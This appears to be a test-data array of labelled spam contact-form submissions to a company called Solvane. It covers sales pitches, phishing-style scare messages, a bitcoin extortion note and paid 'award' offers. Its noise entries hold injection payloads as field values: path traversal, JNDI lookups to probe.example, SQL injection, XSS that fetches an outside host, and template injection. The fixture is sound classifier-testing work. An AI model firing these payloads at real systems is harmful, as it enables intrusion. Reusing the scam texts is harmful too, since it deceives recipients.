    kind: 'cold-software',
    message: {
      name: 'Fiona Grant',
      email: 'fiona@perkwise.example',
      phone: '+44 131 555 0155',
      company: 'Perkwise',
      message:
        'Hello! Salary sacrifice for electric cars costs the employer nothing and is the benefit tech people ask for most, after private health. Perkwise sets it up in two weeks. Would a comparison for a 30-person company help your HR or finance person?',
    },
    fillMs: 748,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'CleanPro',
      email: 'offers@cleanpro-offices.test',
      phone: '020 7946 0158',
      company: 'CleanPro',
      message:
        'Office cleaning from £14.50 per hour, DBS checked, fully insured, first clean half price. Evenings and weekends possible. Reply with size of your office for a quote',
    },
    fillMs: 23222,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Raul Dominguez',
      email: 'raul@codeguardian.example',
      phone: '+34 91 555 0122',
      company: 'CodeGuardian',
      message:
        "Hi Solvane, AI-written code now makes up about 40% of what teams merge, and reviewers are overwhelmed. CodeGuardian comments on pull requests with your own guidelines. It's free for five developers. Could I get your CTO's opinion on it? Honest criticism is welcome.",
    },
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Brenda',
      email: 'brenda@tollfreenow.test',
      phone: '+1 555 0185',
      company: 'TollFreeNow',
      message:
        'The vanity number 1-800-SOLVANE may be available! Vanity numbers increase calls by 33%. Reserve before a competitor takes it. $19.99/mo.',
    },
    fillMs: 840,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Jeroen Pot',
      email: 'jeroen@leasefleet.example',
      phone: '+31 30 555 0166',
      company: 'LeaseFleet',
      message:
        "Good morning, are you still driving petrol cars with the team? Because of the changed tax addition it's attractive to order electric before the 31st. I've four cars available from stock from 389 per month ex VAT. When can I call you for 5 minutes?",
    },
    fillMs: 34307,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Steffi',
      email: 'steffi@printkontor.example',
      phone: '+49 40 555 0192',
      company: 'Printkontor',
      message:
        "Need roll-ups, trade fair walls or business cards in a hurry? Printkontor delivers in 48 hours, climate compensated. New customers get 20% off the first order with SOLV20. We'd gladly send a paper sample book, to which address?",
    },
    fillMs: 27909,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Edwin',
      email: 'edwin@crmflow.test',
      phone: '555 0137',
      company: 'CRMFlow',
      message:
        'Hello Admin, does your business use CRM? With CRMFlow you manage sales, invoice, HR, inventory in one place, only 5 USD per user lifetime deal. Demo https://crmflow.example/demo?ref=cf',
    },
    sameText: 4,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Lucia Ferri',
      email: 'lucia@englishforteams.example',
      phone: '+39 02 555 0144',
      company: 'English for Teams',
      message:
        'Hello, we teach business English online to IT teams: calls with clients, difficult negotiations, documentation. Small groups, native teachers, reports for HR. The first lesson is offered by us. How many of your colleagues could benefit from it?',
    },
    fillMs: 31314,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Brad Kessel',
      email: 'brad@gpu-colo.example',
      phone: '+1 555 0150',
      company: 'GPU Colo',
      message:
        'H100s in stock, Oslo and Dallas, $1.89/hr reserved for 6 months. You do AI, you know what that means. Inventory gone by Friday as usual. Want me to hold 8?',
    },
    fillMs: 17414,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Sophie Lam',
      email: 'sophie@healthcover-direct.example',
      phone: '+44 20 7946 0121',
      company: 'HealthCover Direct',
      message:
        'Hi, private medical insurance for small teams begins at £31 per person per month, covering mental health and physio. Since software people sit a lot (guilty too!), physio is what gets used the most. Can I get a rough head count and average age to send an illustration?',
    },
    fillMs: 40459,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Events Rental',
      email: 'info@vrteambuild.test',
      phone: '555 0140',
      company: 'VR Teambuild',
      message:
        'Looking for something different for the staff party? VR escape room comes to your office! From 6 to 60 people, catering optional. Reply for December dates, few left.',
    },
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Hassan',
      email: 'hassan@dubai-freezone.test',
      phone: '+971 4 555 0199',
      company: 'Freezone Setup',
      message:
        'Set up your company in Dubai in 3 days, 0% tax, residence visa, bank account assured. Packages from AED 5,750. Many IT and crypto firms already relocated. Share whatsapp number for consultation.',
    },
    fillMs: 16339,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Compliance Unit',
      email: 'unit@nis2-register.test',
      phone: '+32 2 555 0143',
      company: 'NIS2 Register',
      message:
        'According to our records Solvane has not been entered in the NIS2 register of digital service providers. The registration obligation has already begun. Penalties up to EUR 7 million. Enter your company now via our service (processing fee EUR 349).',
    },
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Chris Dale',
      email: 'chris.dale@darkwebalert.example',
      phone: '555 0107',
      company: 'DarkWeb Alert',
      message:
        "Hi, I don't want to alarm you, but our monitoring picked up credentials belonging to your domain on a forum last Thursday. I can't put details in a form for obvious reasons. Would you be able to jump on a call so I can show you? We normally charge for it but the first report is complimentary.",
    },
    fillMs: 33019,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Wei Zhang',
      email: 'wei.zhang@cn-netregistry.test',
      phone: '+86 21 5550 0130',
      company: 'CN Net Registry',
      message:
        "(Please forward this to your CEO, it's urgent.) We are the registration service in Shanghai. On Monday we received application from Hongtai Ltd for 'solvane' as internet keyword and .cn .asia domain names. As it conflicts with your company name, please confirm whether they are your distributor.",
    },
    sameText: 20,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Meta Support',
      email: 'appeal@page-review.invalid',
      phone: '555 0101',
      company: '',
      message:
        'Your business page has been reported for copyright violation and will be permanently disabled within 24 hours. If you believe this is a mistake, verify your account: https://page-review.invalid/appeal/90311',
    },
    fillMs: 1522,
    fromAddress: 9,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Laura Weston',
      email: 'laura@accessfirst.example',
      phone: '+1 555 0170',
      company: 'AccessFirst',
      message:
        "Hi Solvane, I have low vision and test websites for a living. Five of your buttons have no label and the contrast in the footer is 2.9:1. My firm fixes such things, and since the Act came into force we've seen complaints go from rare to weekly. I could send you the top ten issues and an offer. Would that be alright?",
    },
    fillMs: 61634,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Anon',
      email: 'anon@mail.invalid',
      phone: '0',
      company: '',
      message:
        "We have hacked your website and extracted your databases. Pay 0.03 BTC within 72 hours or your customers' data will be sold and your reputation destroyed. Do not reply. Wallet: bc1qexampleexampleexample0000",
    },
    sameText: 26,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Trademark Office',
      email: 'filing@tm-publication.test',
      phone: '+421 555 0111',
      company: 'TM Publication',
      message:
        'Your trademark SOLVANE is due for publication in the international register of trade marks. Please transfer the fee of EUR 1,280 within 8 days. The offer is independent of official authorities (see terms on reverse).',
    },
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Kunal',
      email: 'kunal@pentest-hero.test',
      phone: '+91 5550 0185',
      company: '',
      message:
        'Respected sir, critical bug found: clickjacking + missing security headers + version disclosure on your domain. Attacker can steal customer. I can fix in 1 day 150$. Kindly revert soon before bad people exploit.',
    },
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Cookie Watch',
      email: 'report@cookiewatch.example',
      phone: '555 0186',
      company: 'Cookie Watch',
      message:
        "7 trackers fire on your site before consent, including two which were subject of warnings in 2024. Law firms scan for exactly this automatically. We're not lawyers, we've a script that solves it for 9 EUR a month. See your own scan: https://cookiewatch.example/s/solvane",
    },
    fillMs: 2246,
  },
  {
    label: 'spam',
    kind: 'scare',
    message: {
      name: 'Hostmaster',
      email: 'hostmaster@mailbox-quota.invalid',
      phone: '555 0122',
      company: '',
      message:
        'Your mailbox storage has reached 98%. 14 incoming messages are pending delivery. Release messages now or they will be deleted https://mailbox-quota.invalid/release',
    },
    sameText: 15,
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Diane Sharpe',
      email: 'diane@topdevlist.example',
      phone: '+1 555 0112',
      company: 'TopDevList',
      message:
        "Hi! We've just finished our research into the best AI developers 2026 and Solvane landed at number 7. Well done! The ranking goes live on Friday. Listed companies can get a verified profile with lead form from $199 a month. Positions 1 to 3 are sponsored. Shall I send you the preview?",
    },
    fillMs: 28816,
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Prof. Milan Kralj',
      email: 'm.kralj@iccai-conf.test',
      phone: '+386 1 555 0166',
      company: 'ICCAI',
      message:
        'Dear Colleague, following your valuable contribution to the field, the scientific committee cordially invites you to give a keynote at the International Congress on Cloud and AI, Dubrovnik. Registration for keynote speakers is reduced to EUR 690. Abstract deadline extended.',
    },
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Jordan Blake',
      email: 'jordan@founderforty.test',
      phone: '555 0138',
      company: 'Founder Forty',
      message:
        "hey! love what you're doing at solvane. we'd be stoked to have you on the founder forty pod, past guests did 7-8 figures. it's super chill, 25 min. guests chip in 297 for editing. grab a slot? https://founderforty.example/guest",
    },
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Patricia Holm',
      email: 'patricia@nordic-summit.example',
      phone: '+45 55 50 12 60',
      company: 'Nordic Summit',
      message:
        "Dear Solvane, 60 pre-qualified CIOs, two days, one hotel: at Nordic Summit you get 16 pre-arranged one-to-one meetings with delegates who've confirmed budgets. Two solution provider places remain at EUR 14,500. Which areas do you focus on next year? I'll match you with delegates before you decide.",
    },
    fillMs: 37878,
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: "Who's Who Committee",
      email: 'nominations@whoswho-tech.test',
      phone: '555 0150',
      company: '',
      message:
        "You have been selected for inclusion in the forthcoming edition of Who's Who in Technology Leaders. There's no cost to be included. Please verify your details by phone interview. Plaque and lifetime membership optional.",
    },
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Beatrix',
      email: 'beatrix@tvbusiness-today.example',
      phone: '+44 20 7946 0144',
      company: 'Business Today TV',
      message:
        "Good afternoon, I'm the producer of a short documentary series about companies changing how Europe works, shown on business channels and in flight. We have chosen AI for episode 4 and would like to film at Solvane. The editorial part is free; there's a scheduling fee of £7,900 for airtime. May I speak to whoever does communications?",
    },
    fillMs: 52323,
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Sanjay Puri',
      email: 'sanjay@silicon-review-mag.test',
      phone: '+1 555 0193',
      company: '',
      message:
        "Hello, Greetings of the day! Congratulations, Solvane is chosen among '30 Fabulous Companies of the Year'. One page profile + digital certificate for nominal sponsorship of $1500. Reverting back your interest will be appreciated.",
    },
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Anne Mertens',
      email: 'anne@employer-seal.example',
      phone: '+49 221 555 0117',
      company: 'Employer Seal',
      message:
        "Your employees' public ratings have qualified Solvane for our seal 'Top Employer IT SME'. Only 8% of the companies examined achieve it. The licence for use on website and job ads costs 1,450 EUR plus VAT a year. May I send the certificate for approval?",
    },
    fillMs: 1015,
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Chip Lawson',
      email: 'chip@bookauthority-press.test',
      phone: '+1 555 0145',
      company: '',
      message:
        "We're compiling an Amazon bestseller with 20 tech leaders, one chapter each. You'd be a co-author alongside some very well known names. We write it with you from an interview. Bestseller status guaranteed, investment 2,997. 3 chapters open. In?",
    },
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Expo Sales',
      email: 'stand@futuretech-expo.test',
      phone: '+971 4 555 0170',
      company: 'FutureTech Expo',
      message:
        'Last stands! 9 sqm shell scheme at FutureTech Expo, AI & Blockchain pavilion, now USD 4,200 rather than 6,500. 45,000 visitors. Floor plan on request, first come first served.',
    },
    fillMs: 645,
  },
  {
    label: 'spam',
    kind: 'award',
    message: {
      name: 'Nicole Adler',
      email: 'nicole@webinarpartners.example',
      phone: '555 0188',
      company: 'Webinar Partners',
      message:
        "Hi Solvane, we're hosting a panel on AI in the back office with 400 sign-ups so far, mainly finance leads. One panelist has dropped out. We could offer you the seat for the remaining cost share of $1,800, and you get all registrants' contacts. I'd need to know by tomorrow evening. What do you think?",
    },
    fillMs: 30458,
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: '../../../../etc/passwd',
      email: 'probe@example.net',
      phone: '../../etc/passwd',
      company: '',
      message: '../../../../../../etc/passwd%00',
    },
    fromAddress: 47,
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'RobertSnuro',
      email: 'rs@mail.invalid',
      phone: '89443327718',
      company: 'google',
      message: 'rGtYhBnUjM zaqxsw cdevfr bgtnhy mjukil',
    },
    sameText: 5,
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: '${jndi:ldap://probe.example/a}',
      email: 'j@example.org',
      phone: '${jndi:ldap://probe.example/b}',
      company: '',
      message: '${jndi:ldap://probe.example/c}',
    },
    fromAddress: 52,
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'sample',
      email: 'sample@example.com',
      phone: '3137 Laguna Street',
      company: '1',
      message: "1;waitfor delay '0:0:15'--",
    },
    fillMs: 310,
    fromAddress: 60,
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'asdf',
      email: 'asdf@example.com',
      phone: '123',
      company: 'asdf',
      message: 'asdf asdf asdf',
    },
    fillMs: 1937,
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: "<img src=x onerror=fetch('//x.example')>",
      email: 'x@example.net',
      phone: '555',
      company: '',
      message: '<svg/onload=confirm`1`><iframe src=javascript:alert(1)>',
    },
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'vnKdpRtyLs',
      email: 'o.j.u.x.i@mail.test',
      phone: '4928571039',
      company: '',
      message: 'LqWnXvTzRbYpKd',
    },
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'test',
      email: 'test@example.com',
      phone: '1',
      company: '',
      message: '*/ ); DROP TABLE messages; --',
    },
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'Ннщк',
      email: 'zz@mail.invalid',
      phone: '000',
      company: '',
      message: 'дывщзл 4432 qqq ;;; %%% йцукен',
    },
    sameText: 3,
  },
  {
    label: 'spam',
    kind: 'noise',
    message: {
      name: 'a',
      email: 'a@example.org',
      phone: 'a',
      company: '',
      message: '{% for c in ().__class__.__base__.__subclasses__() %}{{c}}{% endfor %}',
    },
    fillMs: 564,
    fromAddress: 8,
  },
];
